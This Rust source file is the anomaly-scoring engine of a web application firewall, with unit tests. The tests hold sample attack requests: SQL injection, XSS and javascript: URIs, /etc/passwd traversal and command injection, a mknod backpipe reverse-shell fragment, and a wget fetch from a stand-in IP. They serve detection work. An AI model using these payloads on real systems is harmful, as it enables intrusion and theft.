//! The native firewall engine: `inspect(request) -> verdict`, with anomaly
//! scoring in the spirit of the OWASP Core Rule Set.
//!
//! Every input of the request ([`Request::inputs`]) goes through the rules
//! that read its part of the request and run at the paranoia level asked
//! for; each rule that matches adds its score once. A request whose score
//! reaches the threshold is blocked. The verdict names the class with the
//! highest score (ties go to the class listed first in [`Class::ALL`]) and
//! the matched rules in table order, so that the PHP agent, which runs the
//! same rules as PCRE, can be compared with it exactly.

use super::request::{Input, Request};
use super::rules::{Class, Group, Node, RuleDef, definitions, rule_set};
use super::transform::{Profile, Transform};
use crate::error::{Error, Result};
use crate::wire::Bytes;
use serde::{Deserialize, Serialize};
use std::borrow::Cow;

/// The default paranoia level.
pub const DEFAULT_PARANOIA: u8 = 1;
/// The default blocking threshold (one critical match).
pub const DEFAULT_THRESHOLD: u32 = 5;

/// How strictly to inspect.
#[derive(Clone, Debug, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields, default)]
pub struct Options {
    /// 1 (few false positives) to 4 (most rules); rules above it do not run.
    pub paranoia: u8,
    /// The score at which a request is blocked (at least 1).
    pub threshold: u32,
    /// Rule ids that do not run (unknown ids are ignored, so a per-site
    /// list outlives a rule that a newer version drops).
    pub disabled_rules: Vec<String>,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            paranoia: DEFAULT_PARANOIA,
            threshold: DEFAULT_THRESHOLD,
            disabled_rules: Vec::new(),
        }
    }
}

impl Options {
    /// Checks the ranges.
    pub fn validate(&self) -> Result<()> {
        if !(1..=4).contains(&self.paranoia) {
            return Err(Error::invalid(format!(
                "paranoia must be 1 to 4, got {}",
                self.paranoia
            )));
        }
        if self.threshold == 0 {
            return Err(Error::invalid("threshold must be at least 1"));
        }
        Ok(())
    }
}

/// One rule that matched, and where.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Match {
    /// The rule id.
    pub rule: &'static str,
    /// Its class.
    pub class: &'static str,
    /// The score it added.
    pub score: u32,
    /// The part of the request (`args`, `headers`, …).
    pub target: &'static str,
    /// The field, cookie or header name (empty for the path, URI, body).
    pub name: Bytes,
}

impl Match {
    fn new(rule: &RuleDef, input: &Input) -> Match {
        Match {
            rule: rule.id,
            class: rule.class.name(),
            score: rule.score,
            target: input.target.name(),
            name: Bytes(input.name.to_vec()),
        }
    }
}

/// What the engine decided about a request.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Verdict {
    /// Whether the score reached the threshold.
    pub blocked: bool,
    /// The anomaly score: the sum of the matched rules' scores.
    pub score: u32,
    /// The class with the highest score, or null when nothing matched.
    pub class: Option<&'static str>,
    /// The matched rule ids, in table order.
    pub rules: Vec<&'static str>,
    /// Where each rule matched first, in the same order.
    pub matches: Vec<Match>,
    /// Whether the limits left part of the request uninspected.
    pub truncated: bool,
}

/// Inspects `request` under `options`.
pub fn inspect(request: &Request, options: &Options) -> Verdict {
    inspect_with(request, options, true)
}

/// [`inspect`] with the literal prefilter bypassed: every enabled rule's
/// regex runs on every input it reads. Slower; the verdict must be the
/// same, which the tests check over the corpora to prove that no rule's
/// literals hide one of its matches.
pub fn inspect_without_prefilter(request: &Request, options: &Options) -> Verdict {
    inspect_with(request, options, false)
}

/// One input's value at a node of the transformation trie.
enum Step {
    /// Not computed yet.
    Pending,
    /// The same bytes as at that node (`None`: the raw input), which holds
    /// its own bytes.
    Same(Option<usize>),
    /// Bytes the transformation changed.
    Owned(Vec<u8>),
}

/// Where a transformed value's bytes are.
#[derive(Clone, Copy)]
enum Src {
    /// The raw input.
    Raw,
    /// The raw input lower-cased.
    Lower,
    /// The bytes a trie step made.
    Step(usize),
}

/// The transformed values of one input, computed on demand, each trie
/// step once.
struct Values<'v> {
    raw: &'v [u8],
    /// The raw value's profile.
    profile: Profile,
    /// The raw value lower-cased, when `lower_ready`.
    lower: Vec<u8>,
    lower_ready: bool,
    steps: Vec<Step>,
    /// The profile of the value at each computed step.
    profiles: Vec<Profile>,
    /// The steps computed for this input.
    computed: Vec<usize>,
}

impl<'v> Values<'v> {
    fn reset(&mut self, raw: &'v [u8]) {
        self.raw = raw;
        self.profile = Profile::of(raw);
        self.lower_ready = false;
        for i in self.computed.drain(..) {
            self.steps[i] = Step::Pending;
        }
    }

    /// The node holding the bytes of the value at `node`, computing it.
    /// A step whose input's profile shows it cannot change anything is
    /// skipped; the profile of a changed value is taken afresh, so that
    /// along a pipeline only the steps with work to do run.
    fn source(&mut self, nodes: &[Node], node: Option<usize>) -> Option<usize> {
        let i = node?;
        if let Step::Pending = self.steps[i] {
            let parent = self.source(nodes, nodes[i].parent);
            let profile = match nodes[i].parent {
                Some(p) => self.profiles[p],
                None => self.profile,
            };
            let transform = nodes[i].transform;
            let (step, profile) = if transform.leaves(profile) {
                (Step::Same(parent), profile)
            } else {
                match transform.apply(self.bytes(parent)) {
                    Cow::Borrowed(_) => (Step::Same(parent), profile),
                    Cow::Owned(v) => {
                        let profile = Profile::of(&v);
                        (Step::Owned(v), profile)
                    }
                }
            };
            self.steps[i] = step;
            self.profiles[i] = profile;
            self.computed.push(i);
        }
        match self.steps[i] {
            Step::Same(s) => s,
            _ => Some(i),
        }
    }

    /// The node holding bytes whose literals are those of the value at
    /// `node`, computing no more than needed: the automaton ignores ASCII
    /// case, so a final lower-casing step is left for when a regex runs.
    fn scan_source(&mut self, nodes: &[Node], node: Option<usize>) -> Option<usize> {
        let i = node?;
        if nodes[i].transform == Transform::Lowercase {
            return self.scan_source(nodes, nodes[i].parent);
        }
        self.source(nodes, Some(i))
    }

    /// Which bytes to scan for the literals of `group`'s value (`None`:
    /// the raw input).
    fn scan_key(&mut self, nodes: &[Node], group: &Group) -> Option<usize> {
        if self.profile.leaves_all(group.change_mask) {
            None
        } else {
            self.scan_source(nodes, group.node)
        }
    }

    /// Where `group`'s value is, computing it.
    fn value(&mut self, nodes: &[Node], group: &Group) -> Src {
        if !self.profile.leaves_all(group.change_mask) {
            return match self.source(nodes, group.node) {
                Some(i) => Src::Step(i),
                None => Src::Raw,
            };
        }
        self.raw_or_lower(group.lowercases)
    }

    /// The raw value, or lower-cased if `lowercases`.
    fn raw_or_lower(&mut self, lowercases: bool) -> Src {
        if !(lowercases && self.profile.has_upper()) {
            return Src::Raw;
        }
        if !self.lower_ready {
            self.lower.clear();
            self.lower
                .extend(self.raw.iter().map(u8::to_ascii_lowercase));
            self.lower_ready = true;
        }
        Src::Lower
    }

    /// The bytes held at `source` (from [`Values::source`]).
    fn bytes(&self, source: Option<usize>) -> &[u8] {
        match source.map(|i| &self.steps[i]) {
            Some(Step::Owned(v)) => v,
            _ => self.raw,
        }
    }

    /// The bytes at `src`.
    fn get(&self, src: Src) -> &[u8] {
        match src {
            Src::Raw => self.raw,
            Src::Lower => &self.lower,
            Src::Step(i) => self.bytes(Some(i)),
        }
    }
}

/// Buffers one inspection needs, kept per thread so that an inspection
/// allocates little.
#[derive(Default)]
struct Scratch {
    /// Whether each rule runs under the options.
    runs: Vec<bool>,
    /// The input that last tried each rule, [`NOT_TRIED`] or [`MATCHED`].
    tried: Vec<usize>,
    /// The trie steps of the current input.
    steps: Vec<Step>,
    /// Their values' profiles.
    profiles: Vec<Profile>,
    /// A buffer for a lower-cased input.
    lower: Vec<u8>,
    /// The steps computed for the current input.
    computed: Vec<usize>,
    /// The literals found in the current input's values: (scan source,
    /// range in `literals`).
    scanned: Vec<(Option<usize>, usize, usize)>,
    literals: Vec<u32>,
    /// A buffer for [`RuleSet::literals_in`](super::rules::RuleSet::literals_in).
    seen: Vec<u64>,
    /// The groups that read the current input.
    groups: Vec<usize>,
    /// The rules a group's prefilter picked.
    candidates: Vec<usize>,
}

/// `Scratch::tried` of a rule no input tried yet.
const NOT_TRIED: usize = usize::MAX;
/// `Scratch::tried` of a rule that matched: it runs no more.
const MATCHED: usize = usize::MAX - 1;

thread_local! {
    static SCRATCH: std::cell::RefCell<Scratch> = std::cell::RefCell::default();
}

fn inspect_with(request: &Request, options: &Options, prefilter: bool) -> Verdict {
    SCRATCH.with(|scratch| match scratch.try_borrow_mut() {
        Ok(mut scratch) => inspect_in(request, options, prefilter, &mut scratch),
        Err(_) => inspect_in(request, options, prefilter, &mut Scratch::default()),
    })
}

fn inspect_in(
    request: &Request,
    options: &Options,
    prefilter: bool,
    scratch: &mut Scratch,
) -> Verdict {
    let rules = definitions();
    let set = rule_set();
    let Scratch {
        runs,
        tried,
        steps,
        profiles,
        lower,
        computed,
        scanned,
        literals,
        seen,
        groups,
        candidates,
    } = scratch;
    runs.clear();
    runs.extend(rules.iter().map(|r| {
        r.paranoia <= options.paranoia && !options.disabled_rules.iter().any(|d| d == r.id)
    }));
    tried.clear();
    tried.resize(rules.len(), NOT_TRIED);
    steps.resize_with(set.nodes.len(), || Step::Pending);
    profiles.resize(set.nodes.len(), Profile::default());
    let inputs = request.inputs();
    let mut found: Vec<(usize, Match)> = Vec::new();
    let mut values = Values {
        raw: &[],
        profile: Profile::default(),
        lower: std::mem::take(lower),
        lower_ready: false,
        steps: std::mem::take(steps),
        profiles: std::mem::take(profiles),
        computed: std::mem::take(computed),
    };
    for (n, input) in inputs.list.iter().enumerate() {
        values.reset(&input.value);
        literals.clear();
        let plan = set.plan(input.target, &input.name);
        if prefilter && values.profile.leaves_all(plan.change_mask) {
            // No rule reading this input transforms it beyond lower-casing:
            // one scan, and each candidate reads it as it is or lower-cased.
            set.literals_in(values.raw, literals, seen);
            plan.candidates(literals, |i, lowercases| {
                if tried[i] == n || tried[i] == MATCHED || !runs[i] {
                    return;
                }
                tried[i] = n;
                let src = values.raw_or_lower(lowercases);
                if set.regexes[i].is_match(values.get(src)) {
                    tried[i] = MATCHED;
                    found.push((i, Match::new(&rules[i], input)));
                }
            });
            continue;
        }
        scanned.clear();
        groups.clear();
        set.groups_reading(input.target, &input.name, |g| groups.push(g));
        for group in groups.iter().map(|&g| &set.groups[g]) {
            candidates.clear();
            if prefilter {
                let key = values.scan_key(&set.nodes, group);
                let (from, to) = match scanned.iter().find(|(k, _, _)| *k == key) {
                    Some((_, from, to)) => (*from, *to),
                    None => {
                        let from = literals.len();
                        set.literals_in(values.bytes(key), literals, seen);
                        scanned.push((key, from, literals.len()));
                        (from, literals.len())
                    }
                };
                group.candidates(&literals[from..to], |i| candidates.push(i));
            } else {
                candidates.extend_from_slice(&group.rules);
            }
            let mut value = None;
            for &i in candidates.iter() {
                if tried[i] == n
                    || tried[i] == MATCHED
                    || !runs[i]
                    || !set.reads(i, input.target, &input.name)
                {
                    continue;
                }
                tried[i] = n;
                let src = *value.get_or_insert_with(|| values.value(&set.nodes, group));
                if set.regexes[i].is_match(values.get(src)) {
                    tried[i] = MATCHED;
                    found.push((i, Match::new(&rules[i], input)));
                }
            }
        }
    }
    values.reset(&[]);
    *steps = values.steps;
    *profiles = values.profiles;
    *lower = values.lower;
    *computed = values.computed;
    found.sort_unstable_by_key(|(i, _)| *i);
    let mut by_class = [0u32; Class::ALL.len()];
    for (i, _) in &found {
        by_class[rules[*i].class as usize] += rules[*i].score;
    }
    let matches: Vec<Match> = found.into_iter().map(|(_, m)| m).collect();
    let score = matches.iter().map(|m| m.score).sum();
    let class = by_class
        .iter()
        .enumerate()
        .filter(|(_, s)| **s > 0)
        .max_by(|a, b| a.1.cmp(b.1).then(b.0.cmp(&a.0)))
        .map(|(i, _)| Class::ALL[i].1);
    Verdict {
        blocked: score >= options.threshold,
        score,
        class,
        rules: matches.iter().map(|m| m.rule).collect(),
        matches,
        truncated: inputs.truncated,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get(uri: &str) -> Request {
        Request {
            method: b"GET".to_vec(),
            uri: uri.as_bytes().to_vec(),
            headers: vec![(b"user-agent".to_vec(), b"Mozilla/5.0".to_vec())],
            ..Request::default()
        }
    }

    #[test]
    fn blocks_classic_attacks_and_passes_plain_requests() {
        let options = Options::default();
        for (uri, class) in [
            (
                "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                "sqli",
            ),
            ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
            ("/?file=../../../../etc/passwd", "lfi"),
            ("/?cmd=;cat%20/etc/passwd", "rce"),
        ] {
            let v = inspect(&get(uri), &options);
            assert!(v.blocked, "{uri}: {v:?}");
            assert_eq!(v.class, Some(class), "{uri}: {v:?}");
        }
        for uri in [
            "/",
            "/blog/2026/12/hello-world?utm_source=x",
            "/?q=select+a+good+union+rep",
        ] {
            let v = inspect(&get(uri), &options);
            assert!(!v.blocked, "{uri}: {v:?}");
        }
    }

    #[test]
    fn the_prefilter_changes_no_verdict() {
        let all = Options {
            paranoia: 4,
            ..Options::default()
        };
        for uri in [
            "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E&Name=O%27Brien",
            "/?file=..%2F..%2F..%2Fetc%2Fpasswd&x=%2Fbin%2Fsh",
            "/?cmd=;cat%20/etc/passwd&Q=Select+The+Best",
            "/Blog/2026/?utm_source=X&utm_medium=Y",
            // rce-reverse-shell's `mknod … p` branch holds none of the
            // literals the rule had before "mknod" was added.
            "/?x=1%20mknod%20/tmp/backpipe%20p",
            "/?q=colour%20or%20size&sort=price&ref=https://example.com/a?b",
            // xss-javascript-uri's literals are the bytes before its ':'.
            "/?u=j%20a%20v%20a%20s%20c%20r%20i%20p%20t%20:alert(1)",
            "/?u=javascript%26zwj;:alert(1)",
            "/?u=data%20:text/html,%3Cb%3Ehi",
            // rce-command-at-start's literals are the white space before
            // what follows its command.
            "/?c=cat%09/etc/passwd&category=x",
            "/?c=%20wget%0D%0Ahttp://203.0.113.9/x",
        ] {
            let request = get(uri);
            for options in [Options::default(), all.clone()] {
                let twice = inspect(&request, &options);
                assert_eq!(
                    inspect_without_prefilter(&request, &options),
                    twice,
                    "{uri}"
                );
                assert_eq!(inspect(&request, &options), twice, "{uri}: scratch reuse");
            }
        }
        let mknod = inspect(
            &get("/?x=1%20mknod%20/tmp/backpipe%20p"),
            &Options::default(),
        );
        assert!(mknod.rules.contains(&"rce-reverse-shell"), "{mknod:?}");
        for uri in [
            "/?u=j%20a%20v%20a%20s%20c%20r%20i%20p%20t%20:alert(1)",
            "/?u=javascript%26zwj;:alert(1)",
            "/?u=data%20:text/html,%3Cb%3Ehi",
        ] {
            let v = inspect(&get(uri), &Options::default());
            assert!(v.rules.contains(&"xss-javascript-uri"), "{uri}: {v:?}");
        }
        for uri in [
            "/?c=cat%09/etc/passwd&category=x",
            "/?c=%20wget%0D%0Ahttp://203.0.113.9/x",
        ] {
            let v = inspect(&get(uri), &Options::default());
            assert!(v.rules.contains(&"rce-command-at-start"), "{uri}: {v:?}");
        }
    }

    #[test]
    fn thresholds_paranoia_and_disabled_rules() {
        let attack = get("/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--");
        let base = inspect(&attack, &Options::default());
        assert!(base.blocked && base.score >= DEFAULT_THRESHOLD);
        let lenient = Options {
            threshold: base.score + 1,
            ..Options::default()
        };
        let v = inspect(&attack, &lenient);
        assert!(!v.blocked && v.score == base.score, "scored, not blocked");
        let all_off = Options {
            disabled_rules: base.rules.iter().map(|r| r.to_string()).collect(),
            ..Options::default()
        };
        let v = inspect(&attack, &all_off);
        for rule in &base.rules {
            assert!(!v.rules.contains(rule), "{rule} was disabled");
        }
        assert!(
            Options {
                paranoia: 0,
                ..Options::default()
            }
            .validate()
            .is_err()
        );
        assert!(
            Options {
                paranoia: 5,
                ..Options::default()
            }
            .validate()
            .is_err()
        );
        assert!(
            Options {
                threshold: 0,
                ..Options::default()
            }
            .validate()
            .is_err()
        );
    }

    #[test]
    fn matches_name_where_and_rules_are_in_table_order() {
        let mut request = get("/");
        request.headers.push((b"referer".to_vec(), b"x".to_vec()));
        request.query = Some(crate::wire::Tree::Map(vec![(
            b"q".to_vec(),
            crate::wire::Tree::Str(b"<script>alert(1)</script>".to_vec()),
        )]));
        let v = inspect(&request, &Options::default());
        assert!(v.blocked);
        let m = &v.matches[0];
        assert_eq!((m.target, m.name.0.as_slice()), ("args", &b"q"[..]));
        let order: Vec<usize> = v
            .rules
            .iter()
            .map(|id| definitions().iter().position(|r| r.id == *id).unwrap())
            .collect();
        assert!(order.windows(2).all(|w| w[0] < w[1]), "{:?}", v.rules);
    }
}
